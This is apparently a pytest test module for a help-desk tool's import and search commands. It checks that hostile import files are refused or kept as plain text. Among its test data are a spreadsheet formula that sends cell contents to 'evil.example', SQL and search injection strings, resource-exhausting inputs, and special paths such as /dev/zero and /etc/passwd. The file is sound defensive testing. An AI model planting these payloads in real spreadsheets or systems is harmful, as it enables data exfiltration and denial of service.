"""Hostile files for import: not only counted, but what each must say, leave and give back."""

from __future__ import annotations

import json
import os
import resource
from collections.abc import Callable
from pathlib import Path

import pytest

from sdesk import ops
from sdesk.cli.program import run
from sdesk.desk import Desk, system_user
from sdesk.errors import QueryError
from sdesk.rules.query import quoted
from sdesk.store.archive import settle
from tests.conftest import fresh_store, setup_operations
from tests.security.strict import refused
from tests.transfer.conftest import shared

Sdesk = Callable[..., tuple[int, str]]
HEAD = "external_id,title,requester,priority,state,body\n"
MORE = 120_000
"""Kilobytes that reading any of these may take beside what the process has."""


@pytest.fixture(scope="module")
def template(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A desk of which this test's user is the admin, to be copied."""
    store = tmp_path_factory.mktemp("imports") / "desk.db"
    me = ops.SaveAgent(system_user(), "Me", "admin")
    Desk.create(store, setup=[*setup_operations(), me], actor="ana").close()
    settle(store)
    return store


@pytest.fixture
def place(template: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    for name in ("SDESK_STORE", "SDESK_CONFIG"):
        monkeypatch.delenv(name, raising=False)
    return fresh_store(template, tmp_path / "desk")


@pytest.fixture
def sdesk(place: Path, capfdbinary: pytest.CaptureFixture[bytes]) -> Sdesk:
    """Run a command; status and all it said, of which nothing is harmful."""

    def runner(*words: str) -> tuple[int, str]:
        before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
        status = run(["--store", str(place), *words])
        said = b"".join(capfdbinary.readouterr()).decode()
        assert not refused(said), said
        assert "Traceback" not in said
        assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < MORE, "memory"
        return status, said

    return runner


@pytest.fixture
def bring(sdesk: Sdesk) -> Sdesk:
    """Import a shared file by its number."""
    index = shared("cases/hostile/index.json")
    files = {c["id"]: index.parent / c["file"] for c in json.loads(index.read_text())["imports"]}

    def bringer(number: str, *words: str) -> tuple[int, str]:
        if number not in files:
            pytest.skip(f"{number} is not in this set")
        return sdesk("import", str(files[number]), "--source", number, *words)

    return bringer


def titles(place: Path, query: str = "") -> list[str]:
    with Desk.open(place) as desk:
        return [
            desk.read.ticket(number).subject for number in desk.read.ids(f"{query} sort:number")
        ]


def test_i01_formulas_leave_as_text_and_come_back_letter_for_letter(
    bring: Sdesk, sdesk: Sdesk, place: Path, template: Path, tmp_path: Path
) -> None:
    assert "10 added" in bring("i01")[1]
    before = titles(place)
    assert '=HYPERLINK("http://evil.example?d="&A1)' in before
    assert sdesk("export", "sort:number", "-o", str(tmp_path / "x.csv"))[0] == 0
    cells = (tmp_path / "x.csv").read_text().splitlines()
    assert not [cell for line in cells for cell in line.split(",") if cell.strip('"')[:1] in "=+-@\t＝" and cell.strip('"')]  # fmt: skip
    other = fresh_store(template, tmp_path / "other")
    assert sdesk("import", str(tmp_path / "x.csv"), "--store", str(other))[0] == 0
    assert sorted(titles(other)) == sorted(before)


def test_i02_i04_encodings_are_read_or_named_and_what_was_taken_out_is_counted(
    bring: Sdesk, place: Path
) -> None:
    status, said = bring("i02", "--dry-run")
    assert "utf-16" in said.lower()
    assert "1 added" in bring("i02")[1]
    status, said = bring("i04")
    assert status != 0 or "1 row held NUL" in said
    assert all("\0" not in title for title in titles(place))


def test_i05_i07_i14_i26_are_refused_before_a_write_with_the_line_or_the_column(
    bring: Sdesk, place: Path
) -> None:
    for number, word in (
        ("i05", "ine 2"),
        ("i07", "subject"),
        ("i14", "password_hash"),
        ("i26", "xlsx"),
    ):
        status, said = bring(number)
        assert (status != 0, word in said.lower() or word in said) == (True, True), (number, said)
    assert not titles(place)


def test_i08_i10_i11_i22_come_in_whole(bring: Sdesk, place: Path) -> None:
    for number, added in (("i08", 1), ("i10", 1), ("i11", 1), ("i22", 2)):
        assert f"{added} added" in bring(number)[1], number
    with Desk.open(place) as desk:
        kept = {desk.read.ticket(n).subject: desk.read.conversation(n) for n in desk.read.ids("")}
        excel = next(desk.read.ticket(n) for n in desk.read.ids("Excel"))
    assert kept["two lines"][0].text == "x\ny\nz"
    assert max(len(entry.text) for entries in kept.values() for entry in entries) >= 250_000
    assert excel.requester is not None
    assert excel.requester.email == "a@x.example"


def test_i13_a_number_twice_is_told_and_a_second_time_adds_nothing(
    bring: Sdesk, place: Path
) -> None:
    said = bring("i13")[1]
    assert ("2 added" in said, "line 3" in said, "X1" in said) == (True, True, True), said
    assert "0 added" in bring("i13")[1]
    assert titles(place) == ["first", "second"]


def test_i16_previews_and_errors_show_markup_as_text(bring: Sdesk, sdesk: Sdesk) -> None:
    assert "2 would be added" in bring("i16", "--dry-run")[1]
    assert "2 added" in bring("i16")[1]
    assert "[@click=app.quit]x[/] [/nope]" in sdesk("ls", "", "--format", "csv")[1]


def test_i17_each_title_is_found_by_itself_and_finds_nothing_else(
    bring: Sdesk, place: Path
) -> None:
    assert "3 added" in bring("i17")[1]
    for title in titles(place):
        if any(map(str.isalnum, title)):
            assert titles(place, quoted(title)) == [title]
        else:  # signs alone are no words: it is said, and nothing is found
            with pytest.raises(QueryError, match="no letter or digit"):
                titles(place, quoted(title))


def test_i19_i20_i23_lines_are_refused_one_by_one_with_their_reasons(
    bring: Sdesk, place: Path
) -> None:
    for number, rejected, words in (
        ("i19", 1, ("title", "twice")), ("i20", 4, ("line 1", "line 2", "line 3", "line 4")), ("i23", 2, ("line 1", "line 2")),
    ):  # fmt: skip
        said = bring(number)[1]
        assert f"Rejected {rejected} row" in said, (number, said)
        assert all(word in said for word in words), (number, said)
    assert not titles(place)


def test_i25_a_document_with_entities_is_refused_before_it_is_unpacked(bring: Sdesk) -> None:
    status, said = bring("i25")
    assert status != 0
    assert "xlsx" in said.lower()


# The same kinds, where the shared set has none.


IMMENSE = {
    "columns.csv": b"," * 3_000_000 + b"\n",
    "line.csv": HEAD.encode() + b"x" * 20_000_000,
    "nested.jsonl": b'{"external_id":"D","title":' + b"[" * 1_000_000,
    "number.jsonl": b'{"external_id":"N","title":"t","priority":' + b"9" * 1_000_000 + b"}",
    "exponent.jsonl": b'{"external_id":"N","title":"t","priority":1e999999999}',
    "keys.jsonl": b"{" + b",".join(b'"k%d":1' % n for n in range(50_000)) + b"}",
}


def test_what_has_no_measure_is_refused_in_a_sentence(
    sdesk: Sdesk, place: Path, tmp_path: Path
) -> None:
    for name, raw in IMMENSE.items():
        (tmp_path / name).write_bytes(raw)
        status, said = sdesk("import", str(tmp_path / name))
        assert status != 0 or "Rejected 1 row" in said, (name, said)
    assert not titles(place)


def test_nothing_but_a_plain_file_is_read(sdesk: Sdesk, place: Path, tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "fifo.csv")
    (tmp_path / "zero.csv").symlink_to("/dev/zero")
    for given in (tmp_path / "fifo.csv", tmp_path / "zero.csv", "/dev/zero", "/proc/self/mem", tmp_path, "file:///etc/passwd", "http://127.0.0.1/x.csv"):  # fmt: skip
        status, said = sdesk("import", str(given))
        assert status != 0, given
        assert len(said) < 400
    assert not titles(place)


OURS = ("id", "version", "role", "event_hash", "erased_at")


def test_no_column_sets_what_the_desk_keeps_for_itself(
    sdesk: Sdesk, place: Path, tmp_path: Path
) -> None:
    """D03, where a mapping is asked for as well."""
    (tmp_path / "y.csv").write_text("subject,other\nt,1\n")
    for column in OURS:
        (tmp_path / "x.csv").write_text(f"subject,{column}\nt,1\n")
        assert sdesk("import", str(tmp_path / "x.csv"))[0] != 0, column
        assert sdesk("import", str(tmp_path / "y.csv"), "--map", f"other={column}")[0] != 0, column
    assert not titles(place)


SIGNS = (
    "' OR 1=1 --",
    '" OR "" MATCH "*',
    "NEAR(a b)",
    "title:*",
    "50%_off",
    "a* b*",
    "x) OR (y",
    "^z",
    "{a b}",
)


def test_a_search_is_literal_whatever_its_signs(place: Path) -> None:
    """D01: as a whole, on what a desk holds."""
    with Desk.open(place) as desk:
        desk.apply(None, ops.Open("something else altogether", "none of it", requester=1))
        for number, text in enumerate(SIGNS):
            ticket = desk.apply(None, ops.Open(f"about {text} q{number}", "it", requester=1)).ticket
            assert list(desk.read.ids(quoted(f"about {text} q{number}"))) == [ticket], text
            assert ticket in desk.read.ids(quoted(text)), text
